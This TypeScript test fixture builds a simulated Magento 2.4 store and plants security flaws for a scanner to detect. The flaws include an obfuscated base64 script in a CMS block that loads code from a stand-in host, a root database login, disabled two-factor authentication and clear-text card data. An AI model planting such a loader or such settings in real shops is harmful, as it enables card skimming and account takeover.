import { key, type MadeStore, password } from '../store-with-flaws.ts';

function env(mode: string, keys: string, login: string, more = ''): string {
  return `<?php
return [
    'backend' => ['frontName' => 'office_k3x'],
    'crypt' => ['key' => '${keys}'],
    'db' => [
        'table_prefix' => 'm2_',
        'connection' => [
            'indexer' => ['host' => '127.0.0.1:3307', 'dbname' => 'shop', ${login}, 'active' => '1'],
            'default' => ['host' => '127.0.0.1:3307', 'dbname' => 'shop', ${login}, 'model' => 'mysql4', 'active' => '1',
                'driver_options' => [1014 => false, \\PDO::MYSQL_ATTR_SSL_CA => '/x.pem']],
        ],
    ],
    'x-frame-options' => 'SAMEORIGIN',
    'MAGE_MODE' => '${mode}',
    'session' => ['save' => 'files'],
    'install' => ['date' => 'Mon, 11 Feb 2019 09:12:05 +0000'],${more}
];
`;
}

function modules(second: number, more = ''): string {
  return `<?php
return [
    'modules' => [
        'Magento_Store' => 1,
        'Magento_TwoFactorAuth' => ${second},
        'Acme_Pay' => 1,
        'Acme_Reviews' => 0,${more}
    ]
];
`;
}

const installed = JSON.stringify({
  packages: [
    { name: 'magento/framework', version: '103.0.6-p3', type: 'magento2-library' },
    { name: 'magento/product-community-edition', version: '2.4.6-p3', type: 'metapackage' },
    { name: 'acme/module-search', version: 'v3.1.4', type: 'magento2-module' },
    { name: 'acme/theme-shop', version: '1.0.2', type: 'magento2-theme' },
    { name: 'monolog/monolog', version: '2.9.1', type: 'library' },
  ],
});

/** Magento Open Source 2.4 by Composer, with a prefix and a port. */
export const magento24: MadeStore = {
  name: 'Magento Open Source 2.4',
  engine: 'magento2',
  files: {
    'bin/magento': '#!/usr/bin/env php\n',
    'app/etc/di.xml': '<config><preference for="Psr\\Log\\LoggerInterface" type="Magento\\Framework\\Logger\\Monolog"/></config>',
    'app/etc/NonComposerComponentRegistration.php': '<?php\n',
    'composer.json': JSON.stringify({ name: 'magento/project-community-edition', require: { 'magento/product-community-edition': '2.4.6-p3' } }),
    'vendor/composer/installed.json': installed,
    'app/etc/env.php': env('production', `${key}\n${[...key].reverse().join('')}`, `'username' => 'shop', 'password' => '${password}'`, `\n    'graphql' => ['disable_introspection' => true],`),
    'app/etc/config.php': modules(1),
    'app/code/Acme/Pay/etc/module.xml': '<?xml version="1.0"?>\n<config><module name="Acme_Pay" setup_version="1.4.0"/></config>',
    'app/code/Acme/Pay/registration.php': '<?php\n',
    'pub/index.php': '<?php\n',
  },
  tables: `
CREATE TABLE m2_setup_module (module varchar(50), schema_version varchar(50), data_version varchar(50));
INSERT INTO m2_setup_module VALUES ('Magento_Store','2.1.0','2.1.0'),('Magento_TwoFactorAuth','1.1.5','1.1.5'),('Acme_Pay','1.4.0','1.4.0');
CREATE TABLE m2_core_config_data (config_id int, scope varchar(8), scope_id int, path varchar(255), value text, updated_at timestamp);
INSERT INTO m2_core_config_data (config_id, scope, scope_id, path, value) VALUES
 (1,'default',0,'web/unsecure/base_url','https://shop.example/'),(2,'default',0,'web/secure/base_url','https://shop.example/'),
 (3,'default',0,'payment/stripe_payments/active','1'),(4,'default',0,'payment/stripe_payments/title','Card'),
 (5,'default',0,'payment/stripe_payments/secret_key','0:3:${'QUJD'.repeat(16)}'),(6,'default',0,'admin/security/session_lifetime','900'),
 (7,'default',0,'payment/checkmo/active','0');
CREATE TABLE m2_admin_user (user_id int, username varchar(40), email varchar(128), firstname varchar(32), password varchar(255), is_active smallint, created timestamp NULL, logdate timestamp NULL);
INSERT INTO m2_admin_user VALUES (1,'maria.keller','maria@shop.example','Maria','${'a1'.repeat(32)}:${'b2'.repeat(16)}:3_32_2_67108864',1,'2021-03-01 08:00:00','2026-11-20 10:00:00'),
 (2,'jonas.vogt','jonas@shop.example','Jonas','${'c3'.repeat(32)}:${'d4'.repeat(16)}:3_32_2_67108864',1,'2022-03-01 08:00:00','2026-11-21 10:00:00');
CREATE TABLE m2_authorization_role (role_id int, parent_id int, role_type varchar(1), user_id int, user_type varchar(16), role_name varchar(50));
INSERT INTO m2_authorization_role VALUES (1,0,'G',0,'2','Administrators'),(2,1,'U',1,'2','maria.keller'),(3,0,'G',0,'2','Orders'),(4,3,'U',2,'2','jonas.vogt'),(5,0,'G',1,'1','11');
CREATE TABLE m2_authorization_rule (rule_id int, role_id int, resource_id varchar(255), permission varchar(10));
INSERT INTO m2_authorization_rule VALUES (1,1,'Magento_Backend::all','allow'),(2,3,'Magento_Sales::sales','allow'),(3,5,'Magento_Catalog::products','allow');
CREATE TABLE m2_tfa_user_config (user_id int, encoded_providers text, encoded_config text, default_provider varchar(64));
INSERT INTO m2_tfa_user_config VALUES (1,'["google"]','0:3:${'eHl6'.repeat(8)}','google'),(2,'["google"]','0:3:${'eHl6'.repeat(8)}','google');
CREATE TABLE m2_eav_attribute (attribute_id int, attribute_code varchar(255));
CREATE TABLE m2_integration (integration_id int, name varchar(255), email varchar(255), status smallint, consumer_id int, created_at timestamp);
CREATE TABLE m2_oauth_token (entity_id int, consumer_id int, type varchar(16), revoked smallint, created_at timestamp);
CREATE TABLE m2_cron_schedule (schedule_id int, job_code varchar(255), finished_at timestamp NULL);
INSERT INTO m2_cron_schedule VALUES (1,'indexer','2026-11-22 10:00:00');
CREATE TABLE m2_sales_order (entity_id int, customer_email varchar(128), created_at timestamp NULL);
INSERT INTO m2_sales_order VALUES (1,'anna@customer.example','2026-11-22 09:00:00');
CREATE TABLE m2_sales_order_payment (entity_id int, method varchar(255), cc_number_enc varchar(128), cc_last_4 varchar(100), additional_information text);
INSERT INTO m2_sales_order_payment VALUES (1,'stripe_payments',NULL,'1111','{"method_title":"Card"}');
CREATE TABLE m2_cms_block (block_id int, identifier varchar(255), content mediumtext, is_active smallint);
INSERT INTO m2_cms_block VALUES (1,'footer_links','<ul><li><a href="/contact">Contact</a></li></ul>',1);
CREATE TABLE m2_customer_entity (entity_id int, email varchar(255), password_hash varchar(128), updated_at timestamp NULL);
INSERT INTO m2_customer_entity VALUES (1,'anna@customer.example','${'e5'.repeat(32)}:${'f6'.repeat(16)}:3_32_2_67108864','2026-01-01');
`,
  planted: {
    files: {
      'app/etc/env.php': env('developer', 'abcdefabcdef', `'username' => 'root', 'password' => ''`),
      'app/etc/config.php': modules(0, "\n        'Acme_DisableTwoFactorAuth' => 1,"),
    },
    tables: `
INSERT INTO m2_core_config_data (config_id, scope, scope_id, path, value) VALUES
 (20,'default',0,'webapi/webapisecurity/allow_insecure','1'),(21,'default',0,'oauth/consumer/enable_integration_as_bearer','1'),
 (22,'default',0,'admin/security/admin_account_sharing','1'),(23,'default',0,'admin/security/use_form_key','0'),
 (24,'stores',1,'dev/template/allow_symlink','1'),(25,'stores',1,'dev/debug/template_hints_storefront','1'),
 (26,'default',0,'admin/security/password_lifetime',''),(27,'default',0,'admin/security/max_number_password_reset_requests','0'),
 (28,'default',0,'csp/mode/storefront_checkout_index_index/report_only','1');
UPDATE m2_core_config_data SET value = '31536000' WHERE path = 'admin/security/session_lifetime';
UPDATE m2_core_config_data SET value = '${'sk_li'}${'ve_'}${password}${password}' WHERE path = 'payment/stripe_payments/secret_key';
UPDATE m2_sales_order_payment SET additional_information = '{"method_title":"Card","cc_number":"${'4111'}111111111111"}';
UPDATE m2_cms_block SET content = '<p>x</p><script>var a=atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUvaw==");var s=document.createElement("script");s.src=a;document.head.appendChild(s)</script>';
UPDATE m2_cron_schedule SET finished_at = '2026-11-01 10:00:00';
DELETE FROM m2_tfa_user_config WHERE user_id = 2;
INSERT INTO m2_integration VALUES (1,'Old connector','',1,7,'2020-01-01');
INSERT INTO m2_oauth_token VALUES (1,7,'access',0,'2020-01-01');
UPDATE m2_authorization_rule SET resource_id = 'Magento_Backend::all' WHERE role_id = 5;
`,
    checks: [
      'debug-mode',
      'weak-application-key',
      'weak-database-login',
      'second-factor-disabled',
      'unrotated-crypt-key',
      'anonymous-api-access',
      'integration-token-as-bearer',
      'admin-account-sharing',
      'request-tokens-off',
      'template-symlinks-allowed',
      'developer-tool-enabled',
      'admin-password-never-expires',
      'unlimited-password-resets',
      'checkout-csp-report-only',
      'long-admin-session',
      'cron-not-running',
      'all-powerful-api-key',
      'second-factor-missing',
      'gateway-secret-in-clear',
      'card-number-in-clear',
      'injected-script',
    ],
  },
  expect: {
    version: '2.4.6-p3',
    place: 'vendor/composer/installed.json',
    editionName: 'Magento Open Source',
    adminPath: 'office_k3x',
    prefix: 'm2_',
    database: { host: '127.0.0.1', port: 3307, user: 'shop', name: 'shop' },
    extensions: [['acme/module-search', '3.1.4'], ['acme/theme-shop', '1.0.2'], ['Acme_Pay', '1.4.0'], ['Acme_Reviews']],
    admins: { 'maria.keller': [true, 'on'], 'jonas.vogt': [false, 'on'] },
    methods: { stripe_payments: true, checkmo: false, free: true },
  },
};
